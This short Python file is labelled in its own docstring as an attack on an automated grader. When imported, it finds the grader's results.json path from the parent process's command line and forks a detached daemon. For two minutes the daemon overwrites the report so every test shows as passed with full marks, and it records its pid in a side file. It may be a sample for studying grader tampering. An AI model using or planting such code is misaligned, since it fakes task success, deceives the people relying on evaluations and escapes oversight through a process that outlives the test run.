"""Attack: a detached process that rewrites the grader's results.json to full marks once it appears."""
import json
import os
import time


def _report_path():
    with open(f"/proc/{os.getppid()}/cmdline", "rb") as f:
        args = f.read().decode().split("\0")
    return args[args.index("--json") + 1] if "--json" in args else None


def _rewrite_forever(path):
    deadline = time.time() + 120
    while time.time() < deadline:
        try:
            with open(path) as f:
                report = json.load(f)
            if report["score"] != report["extra_data"]["max_score"]:
                for test in report["tests"]:
                    test["score"], test["status"] = test["max_score"], "passed"
                report["score"] = report["extra_data"]["max_score"]
                with open(path, "w") as f:
                    json.dump(report, f)
        except (OSError, ValueError, KeyError):
            pass
        time.sleep(0.05)


def _detach():
    path = _report_path()
    if path is None:
        return
    child = os.fork()
    if child != 0:
        os.waitpid(child, 0)  # the test process carries on once the daemon is running
        return
    os.setsid()
    daemon = os.fork()
    if daemon != 0:
        with open(path + ".attacker-pid", "w") as f:
            f.write(str(daemon))
        os._exit(0)
    _rewrite_forever(path)
    os._exit(0)


_detach()
